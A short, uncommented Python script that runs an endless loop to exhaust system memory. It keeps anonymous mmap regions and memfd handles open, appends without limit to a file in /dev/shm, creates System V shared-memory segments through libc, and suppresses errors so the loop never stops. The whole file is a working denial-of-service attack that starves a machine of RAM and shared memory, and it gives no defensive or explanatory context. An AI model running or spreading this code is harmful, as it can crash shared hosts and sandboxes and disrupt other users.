import ctypes, mmap, os

libc = ctypes.CDLL(None, use_errno=True)
block, kept = b"x" * 1_000_000, []
while True:
    try:
        room = mmap.mmap(-1, len(block))
        room.write(block)
        kept.append(room)
    except (OSError, ValueError, MemoryError): pass
    for fd in (os.memfd_create("more"), os.open("/dev/shm/more", os.O_RDWR | os.O_CREAT | os.O_APPEND)):
        try:
            os.write(fd, block)
            kept.append(fd)
        except OSError: os.close(fd)
    libc.shmget(0, len(block), 0o1666)
